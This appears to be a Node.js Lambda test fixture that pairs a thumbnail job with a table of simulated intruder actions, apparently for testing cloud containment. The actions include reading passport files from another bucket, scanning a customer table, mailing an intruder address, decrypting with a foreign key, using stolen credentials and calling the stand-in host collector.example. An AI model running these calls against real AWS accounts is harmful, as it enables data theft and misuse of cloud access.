import { createHash } from 'node:crypto';
import { get } from 'node:https';
import { DynamoDBClient, PutItemCommand, ScanCommand } from '@aws-sdk/client-dynamodb';
import { KinesisClient, PutRecordCommand } from '@aws-sdk/client-kinesis';
import { DecryptCommand, KMSClient } from '@aws-sdk/client-kms';
import { GetObjectCommand, PutObjectCommand, S3Client } from '@aws-sdk/client-s3';
import { SESClient, SendEmailCommand } from '@aws-sdk/client-ses';
import { SendMessageCommand, SQSClient } from '@aws-sdk/client-sqs';

/** The function of every story here, in the AWS SDK for JavaScript v3: `{do: "work", key, size}` is its job, all else is what an intruder makes it do. */
const s3 = new S3Client({});
const dynamodb = new DynamoDBClient({});
const sqs = new SQSClient({});

export async function handler(event) {
  // Lambda's runtime has it from Lambda; the emulator keeps it to itself.
  if (event.trace) awslambda.InvokeStore.getContext()[Symbol.for('_AWS_LAMBDA_X_RAY_TRACE_ID')] = event.trace;
  try {
    return await (event.do === 'work' ? work(event) : attacks[event.do](event));
  } catch (error) {
    console.error(`${event.do}: ${error.name}: ${error.message}`);
    return {
      error: error.name,
      code: error.code ?? error.cause?.code ?? null,
      status: error.$metadata?.httpStatusCode ?? null,
      attempts: error.$metadata?.attempts ?? null,
    };
  }
}

async function work({ key, size, sleep, crash }) {
  const { Body } = await s3.send(new GetObjectCommand({ Bucket: 'photo-uploads', Key: key }));
  const bytes = await Body.transformToByteArray();
  const body = Buffer.alloc(size, bytes);
  await s3.send(new PutObjectCommand({ Bucket: 'photo-thumbnails', Key: key, Body: body }));
  await dynamodb.send(new PutItemCommand({ TableName: 'Images', Item: { image: { S: key }, size: { N: `${size}` } } }));
  await sqs.send(new SendMessageCommand({ QueueUrl: process.env.QUEUE, MessageBody: JSON.stringify({ key }) }));
  if (sleep) await new Promise((resolve) => setTimeout(resolve, sleep));
  if (crash) process.exit(7);
  return { read: createHash('sha256').update(bytes).digest('hex'), written: body.length };
}

const attacks = {
  async 'other-bucket'() {
    const { Body } = await s3.send(new GetObjectCommand({ Bucket: 'identity-documents', Key: 'passports/1043' }));
    return { result: await Body.transformToString() };
  },
  async 'scan-table'() {
    return { result: (await dynamodb.send(new ScanCommand({ TableName: 'Customers' }))).Count };
  },
  async 'send-mail'() {
    const Message = { Subject: { Data: 'x' }, Body: { Text: { Data: 'body-marker-mail' } } };
    const Destination = { ToAddresses: ['intruder@example.com'] };
    const mail = new SendEmailCommand({ Source: 'shop@example.com', Destination, Message });
    return { result: (await new SESClient({}).send(mail)).MessageId };
  },
  async 'foreign-key'() {
    const CiphertextBlob = Buffer.from(process.env.CIPHERTEXT, 'base64');
    const { Plaintext } = await new KMSClient({}).send(new DecryptCommand({ CiphertextBlob }));
    return { result: Buffer.from(Plaintext).toString() };
  },
  async stream() {
    const record = { StreamName: 'clicks', PartitionKey: '1', Data: Buffer.from('body-marker-stream') };
    return { result: (await new KinesisClient({}).send(new PutRecordCommand(record))).SequenceNumber };
  },
  async 'own-credentials'({ accessKeyId, secretAccessKey }) {
    const own = new S3Client({ credentials: { accessKeyId, secretAccessKey } });
    const upload = new PutObjectCommand({ Bucket: 'photo-thumbnails', Key: 'stolen', Body: 'body-marker-stolen' });
    return { result: (await own.send(upload)).ETag };
  },
  async 'large-upload'() {
    const Body = Buffer.alloc(4 * 1024 * 1024, 'body-marker-large ');
    return { result: (await s3.send(new PutObjectCommand({ Bucket: 'holiday-pictures', Key: 'x', Body }))).ETag };
  },
  'unknown-host': () =>
    new Promise((resolve, reject) => {
      get('https://collector.example/collect', { rejectUnauthorized: false }, (response) => {
        response.resume();
        response.on('end', () => resolve({ result: response.statusCode }));
      }).on('error', reject);
    }),
};
